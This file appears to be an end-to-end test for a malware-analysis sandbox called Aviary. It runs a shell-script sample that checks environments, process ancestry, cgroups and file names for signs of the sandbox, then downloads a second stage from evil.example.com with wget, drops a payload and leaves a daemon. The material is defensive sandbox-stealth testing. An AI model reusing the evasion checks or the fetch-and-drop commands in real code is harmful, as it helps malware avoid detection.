// A sample that looks for its sandbox before it does anything, on a Linux guest with real parts:
// a netns guest (namespace avst48) runs Aviary's agent, the single executable the build makes,
// copied to a neutral path (/usr/local/sbin/guestd: the agent's own path and command line are
// the deployer's choice, README "Preparing analysis machines"), started the way an init system
// starts a service: a plain environment, its own process table (a pid namespace, the agent as
// pid 1, as a VM has its own), and cgroup2 mounted at /sys/fs/cgroup as a systemd guest has it.
// The sample, a shell script, collects what malware reads to find a sandbox: its environment, its
// arguments, each ancestor's command line, name and environment up to pid 1, every process's
// command line and name, its cgroup, and the names in its folder, /tmp, the folders under /tmp and
// the analyzer's folder (found from an ancestor's arguments). It looks in all of that for
// "aviary" (any case) and for this run's id (from analysis.conf in the analyzer's folder); finding
// nothing, it takes its "malicious" branch (fetches a second stage with an environment of its own,
// drops a payload, leaves a setsid daemon), which the report must show. What it collected comes
// back as a dropped file, so the test reads exactly what the sample saw.
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { execFileSync } from 'node:child_process'
import { chmodSync, copyFileSync, existsSync, mkdtempSync, readdirSync, readFileSync, rmSync } from 'node:fs'
import path from 'node:path'
import { createNetnsGuest, type NetnsGuest } from '../guests/netns-guest'
import { startHarness, type Harness } from '../service-harness'
import { submitFile, waitForTask } from './e2e-helpers'

const AGENT = path.resolve('out/agent/aviary-agent-linux-x64')
/** What systemd gives a service, and nothing of the test runner's. */
const AGENT_ENV = { PATH: '/usr/local/sbin:/usr/local/bin:/usr/sbin:/usr/bin:/sbin:/bin', LANG: 'C.UTF-8', HOME: '/root' }

const SAMPLE = `#!/bin/sh
out=/tmp/seen.txt
names() { for f in "$1"/* "$1"/.[!.]*; do [ -e "$f" ] && echo "$f"; done; }
analyzer=
{
  echo "== environment"; tr '\\0' '\\n' < /proc/$$/environ
  echo "== arguments"; tr '\\0' ' ' < /proc/$$/cmdline; echo
  echo "== cgroup"; cat /proc/$$/cgroup
  echo "== ancestors"
  pid=$$
  while [ -n "$pid" ] && [ "$pid" -gt 0 ]; do
    echo "pid $pid comm $(cat /proc/$pid/comm) cmdline $(tr '\\0' ' ' < /proc/$pid/cmdline)"
    echo "environment $(tr '\\0' ' ' < /proc/$pid/environ)"
    [ "$pid" -eq 1 ] && break
    pid=$(sed -n 's/^PPid:[[:space:]]*//p' /proc/$pid/status)
  done
  echo "== processes"
  for p in /proc/[0-9]*; do echo "$(cat $p/comm 2>/dev/null) $(tr '\\0' ' ' < $p/cmdline 2>/dev/null)"; done
  echo "== names"
  names "$(dirname "$0")"; names /tmp
  for d in /tmp/*/ /tmp/.[!.]*/; do [ -d "$d" ] && names "\${d%/}"; done
} > $out 2>&1
for p in $(grep -o '[^ ]*analyzer[.]cjs' $out); do analyzer=$(dirname "$p"); done
{ echo "== analyzer folder $analyzer"; [ -n "$analyzer" ] && names "$analyzer"; } >> $out
run=$(sed -n 's/^[a-z]*_run *= *//p' "$analyzer/analysis.conf" 2>/dev/null)
echo "$run" > /tmp/run.txt
if grep -qi aviary $out || { [ -n "$run" ] && grep -q "$run" $out; }; then
  grep -i -e aviary -e "\${run:-no run}" $out > /tmp/verdict.txt
  exit 0
fi
env -i PATH=/usr/bin:/bin STAGE=2 wget -q -O /tmp/stage2.bin http://evil.example.com/stage2
echo owned > /tmp/payload.txt
(setsid sleep 300 &)
`

interface Call { api: string; arguments: Record<string, unknown> }
interface Proc { pid: number; ppid: number; process_name: string; command_line: string; calls: Call[] }
interface Report {
  behavior: { processes: Proc[] }
  network: { http: { host: string; uri: string }[] }
  dropped: { name: string }[]
}

describe('a sample that looks for Aviary on a Linux guest finds nothing', () => {
  let guest: NetnsGuest
  let h: Harness
  let bin: string
  let id: number
  let agentEnv: Record<string, string>
  let report: Report
  let seen: string
  let run: string

  /** A dropped file of the task, by its name. */
  const dropped = (name: string): string | null => {
    const dir = path.join(h.dataDir, 'storage/analyses', String(id), 'files')
    const f = existsSync(dir) ? readdirSync(dir).find((n) => n.endsWith(`_${name}`)) : undefined
    return f === undefined ? null : readFileSync(path.join(dir, f), 'utf8')
  }
  /** The lines of one `== title` section of what the sample saw. */
  const section = (title: string): string[] => {
    const lines = seen.split('\n')
    const start = lines.findIndex((l) => l.startsWith(`== ${title}`))
    if (start < 0) return []
    const end = lines.findIndex((l, i) => i > start && l.startsWith('== '))
    return lines.slice(start + 1, end < 0 ? undefined : end).filter((l) => l !== '')
  }

  beforeAll(async () => {
    guest = await createNetnsGuest({ index: 48, prefix: 'avst' })
    // Outside /tmp: the guest has a /tmp of its own.
    bin = mkdtempSync('/var/cache/avst-sbin-')
    copyFileSync(AGENT, path.join(bin, 'guestd'))
    chmodSync(path.join(bin, 'guestd'), 0o755)
    await guest.startAgent(['sh', '-c',
      'mount --bind "$0" /usr/local/sbin && mount -t cgroup2 cgroup2 /sys/fs/cgroup && ' +
      'exec unshare --pid --fork --mount-proc --kill-child /usr/local/sbin/guestd -H 0.0.0.0 -p 8000', bin], { env: AGENT_ENV, cwd: '/' })
    const environ = await (await fetch(`http://${guest.guestIp}:8000/environ`)).json() as { environ: Record<string, string> }
    agentEnv = environ.environ
    h = await startHarness({
      engine: true,
      machines: {
        driver: 'physical',
        interface: guest.hostIf,
        resultserver: { ip: guest.hostIp, port: 0 },
        screenshots: { interval: 0 },
        machines: [{ name: 'stealth48', ip: guest.guestIp, platform: 'linux' }]
      }
    })
    id = await submitFile(h, 'update.sh', SAMPLE, { timeout: '15' })
    expect(await waitForTask(h, id, ['reported', 'failed_analysis', 'failed_processing'], 120_000)).toBe('reported')
    report = (await h.json<Report>(`/tasks/report/${id}`)).body
    seen = dropped('seen.txt') ?? ''
    run = (dropped('run.txt') ?? '').trim()
  }, 180_000)

  afterAll(async () => {
    await h?.stop()
    await guest?.close()
    if (bin !== undefined) rmSync(bin, { recursive: true, force: true })
  })

  it('the sample saw what a sample sees, and found neither "aviary" nor this run\'s id', () => {
    expect(dropped('verdict.txt'), 'what the sample found').toBeNull()
    expect(seen).not.toBe('')
    expect(run, 'the sample read the run id from analysis.conf').toMatch(/^[0-9a-f]{32}$/)
    expect(seen).not.toMatch(/aviary/i)
    expect(seen).not.toContain(run)
    // It looked where it should: up to the agent (pid 1), through strace and the analyzer...
    const ancestors = section('ancestors').filter((l) => l.startsWith('pid '))
    expect(ancestors.at(-1)).toBe('pid 1 comm guestd cmdline /usr/local/sbin/guestd -H 0.0.0.0 -p 8000 ')
    expect(ancestors.some((l) => /comm strace cmdline .*strace .* -- \S*sh \/tmp\/update\.sh/.test(l)), ancestors.join('\n')).toBe(true)
    expect(ancestors.some((l) => / comm guestd cmdline \/usr\/local\/sbin\/guestd \/tmp\/[a-z]{5,10}\/analyzer\.cjs $/.test(l)), ancestors.join('\n')).toBe(true)
    // ...and into the analyzer's folder.
    const folder = section('analyzer folder')
    expect(folder.some((l) => l.endsWith('/analysis.conf')), folder.join('\n')).toBe(true)
    expect(folder.some((l) => l.endsWith('/analyzer.cjs')), folder.join('\n')).toBe(true)
    // Its cgroup, which holds the analysis for /reset, says nothing either.
    expect(section('cgroup').filter((l) => l.startsWith('0::'))).toEqual([expect.stringMatching(/^0::\/job-[0-9a-f]{8}$/)])
  })

  it('the sample\'s environment is the one the agent was started with, nothing added', () => {
    // The agent's: the service's environment, plus the PWD the shell that started it exported.
    expect(agentEnv).toEqual({ ...AGENT_ENV, PWD: '/' })
    const env = section('environment')
    expect(env.sort()).toEqual(Object.entries(agentEnv).map(([k, v]) => `${k}=${v}`).sort())
  })

  it('so it ran its malicious branch, and the report shows it', () => {
    expect(dropped('payload.txt')).toBe('owned\n')
    expect(report.network.http.some((r) => r.host === 'evil.example.com' && r.uri.endsWith('/stage2')), JSON.stringify(report.network.http)).toBe(true)
    expect(report.behavior.processes.some((p) => p.command_line.startsWith('wget -q -O /tmp/stage2.bin'))).toBe(true)
  })

  it('each execve in the report carries the environment its caller gave, not the analyzer\'s', () => {
    const procs = report.behavior.processes
    const execves = procs.flatMap((p) => p.calls.filter((c) => c.api === 'execve').map((c) => ({ p, env: c.arguments.environment as string[] })))
    expect(execves.length).toBeGreaterThan(3)
    for (const { p, env } of execves) expect(env.join('\n'), p.command_line).not.toMatch(/aviary/i)
    const sample = procs.find((p) => p.command_line.endsWith('/tmp/update.sh'))
    const own = sample?.calls.find((c) => c.api === 'execve')
    expect((own?.arguments.environment as string[]).sort()).toEqual(Object.entries(agentEnv).map(([k, v]) => `${k}=${v}`).sort())
    const wget = procs.find((p) => p.command_line.startsWith('wget '))
    // The pid's first execve is env's (with the shell's environment), then env's of wget.
    const given = wget?.calls.find((c) => c.api === 'execve' && String(c.arguments.filepath).endsWith('/wget'))
    expect(given?.arguments.environment).toEqual(['PATH=/usr/bin:/bin', 'STAGE=2'])
  })

  it('the daemon it left was ended with its cgroup after the run (the host resets a machine nobody reverts)', async () => {
    const cgroup = section('cgroup').find((l) => l.startsWith('0::'))!.slice(3)
    const root = readFileSync('/proc/self/mountinfo', 'utf8').split('\n').find((l) => l.includes(' - cgroup2 '))!.split(' ')[4]!
    await expect.poll(() => existsSync(path.join(root, cgroup)), { timeout: 10_000 }).toBe(false)
    const left = execFileSync('ip', ['netns', 'pids', guest.ns], { encoding: 'utf8' }).split('\n').filter((p) => p !== '')
      .map((p) => { try { return readFileSync(`/proc/${p}/cmdline`, 'latin1').split('\0').join(' ').trim() } catch { return '' } })
    expect(left.filter((c) => /sleep 300/.test(c)), left.join('\n')).toEqual([])
  })
})
